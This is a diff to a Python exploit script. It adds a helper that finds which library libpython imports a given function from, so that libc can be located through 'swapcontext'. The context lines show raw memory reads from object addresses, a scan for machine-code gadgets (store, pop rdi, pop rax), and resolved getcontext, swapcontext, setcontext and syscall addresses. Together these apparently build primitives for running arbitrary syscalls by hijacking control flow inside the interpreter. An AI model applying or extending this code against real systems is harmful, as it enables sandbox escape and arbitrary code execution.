@@ -120,8 +120,20 @@ def _gadget(pattern):
     raise LookupError(pattern.hex())
 
 
+def _library_with(name):
+    """The library that has a function, among those that libpython takes functions from."""
+    for other in ("malloc", "free", "strlen", "memchr", "stdout", "getpid"):  # slots of what was called before are bound
+        try:
+            library = Library(libpython.imported(other))
+            library.symbol(name)
+            return library
+        except (LookupError, ValueError):
+            continue
+    raise LookupError(name)
+
+
 libpython = Library(read64(id(int) + 48))
-libc = Library(libpython.imported("malloc"))  # called before, so its slot is bound
+libc = _library_with("swapcontext")
 _STORE, _POP_RDI, _POP_RAX = (_gadget(bytes.fromhex(text)) for text in ("4889035bc3", "5fc3", "58c3"))
 _getcontext, _swapcontext, _setcontext = (libc.symbol(name) for name in ("getcontext", "swapcontext", "setcontext"))
 _syscall = libc.symbol("syscall")
